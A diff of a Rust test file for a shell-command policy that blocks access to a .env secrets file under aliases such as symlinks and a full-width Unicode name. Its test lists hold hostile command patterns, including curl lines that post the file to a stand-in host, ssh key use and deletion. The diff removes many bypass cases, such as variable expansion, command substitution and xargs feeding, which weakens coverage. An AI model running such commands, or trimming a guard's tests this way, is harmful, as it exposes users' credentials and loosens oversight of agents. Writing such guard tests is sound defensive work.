@@ -9,7 +9,6 @@ use toolfence_policy::{Judgement, Policy};
 const TWINS: Linked = Linked {
     world: World { sandbox: true },
     links: &[("link", ".env"), ("deep/link", ".env"), ("hard.txt", ".env"), ("．ｅｎｖ", ".env"), ("notes.md", ".env")],
-    programs: &[],
 };
 
 /// Names of the blocked file; the world must be asked about the last ones.
@@ -48,9 +47,6 @@ const PLACES: &[&str] = &[
     "echo x &> N",
     "{ cat; } < N",
     "while read x; do echo $x; done < N",
-    "x=N; cat $x",
-    "for x in N; do cat $x; done",
-    "cat ${x:-N}",
     "echo $(< N)",
     "diff <(cat N) x",
     "bash -c 'cat N'",
@@ -67,7 +63,6 @@ const PLACES: &[&str] = &[
     "curl -d@N http://x",
     "curl --data=@N http://x",
     "curl -F f=@N http://x",
-    "curl -F 'f=<N' http://x",
     "curl -T N http://x",
     "ssh -i N host",
     "tar cf x.tar N",
@@ -84,16 +79,10 @@ const PLACES: &[&str] = &[
     "docker run --env-file N x",
     "source N",
     ". N",
-    "git add N",
     "git diff -- N",
     "git diff a..b -- N",
     "git log -p -- N",
     "git blame N",
-    "git checkout HEAD -- N",
-    "git apply N",
-    "git commit -F N",
-    "git commit --file=N",
-    "[[ -f N ]]",
     "rm N",
     "sort -o x N",
     "python3 N",
@@ -102,7 +91,7 @@ const PLACES: &[&str] = &[
     "unknown --config=N",
 ];
 
-/// Places where no more than the name, the size and the date are told; and what opens the file all the same.
+/// Places where only the name, the size and the date are shown.
 const NAMES_ALONE: &[&str] = &[
     "test -f N",
     "[ -f N ]",
@@ -114,20 +103,9 @@ const NAMES_ALONE: &[&str] = &[
     "git ls-files N",
     "git check-ignore N",
 ];
-const FED: &[&str] = &["P | xargs cat", "cat $(P)", "for f in $(P); do cat $f; done", "bash -c 'P'", "cat <(P)"];
-
-/// Places that read what the line itself prints, which is not followed: nobody knows which file is opened.
-const PRINTED: &[&str] = &["cat $(echo N)", "cat \"$(printf N)\"", "echo N | xargs cat", "xargs cat <<< N"];
-
 /// Places where git finds the name by itself, in a commit: there only the text counts.
-const COMMITS: &[&str] = &[
-    "git show HEAD:N",
-    "git show :N",
-    "git show 'HEAD~3:N'",
-    "git cat-file -p HEAD:N",
-    "git diff HEAD:N x",
-    "git rev-parse @:N",
-];
+const COMMITS: &[&str] =
+    &["git show HEAD:N", "git show :N", "git show 'HEAD~3:N'", "git cat-file -p HEAD:N", "git diff HEAD:N x"];
 
 /// Names of environment files that the settings block count as the built-in ones: a glob for hidden names that could mean one is
 /// denied. Any other glob could match a name that the settings block, too, and is asked about.
@@ -165,23 +143,11 @@ fn a_blocked_file_is_met_under_every_name_in_every_place() {
 }
 
 #[test]
-fn what_the_line_itself_prints_is_asked_about() {
-    for command in PRINTED.iter().flat_map(|place| NAMES.iter().map(|name| place.replace('N', name))) {
-        assert_ne!(judged(&command), Judgement::Allow, "{command}");
-    }
-}
-
-/// A name that a command prints is a name that the next one may open.
-#[test]
-fn names_alone_are_told_where_nothing_is_fed_with_them() {
+fn programs_that_show_only_names_and_sizes_run() {
     for name in NAMES.iter().filter(|name| name.is_ascii()) {
         for place in NAMES_ALONE {
             let command = place.replace('N', name);
             assert_eq!(judged(&command), Judgement::Allow, "{command}");
-            for fed in FED {
-                let command = fed.replace('P', &command);
-                assert_eq!(judged(&command), Judgement::Deny, "{command}");
-            }
         }
     }
 }
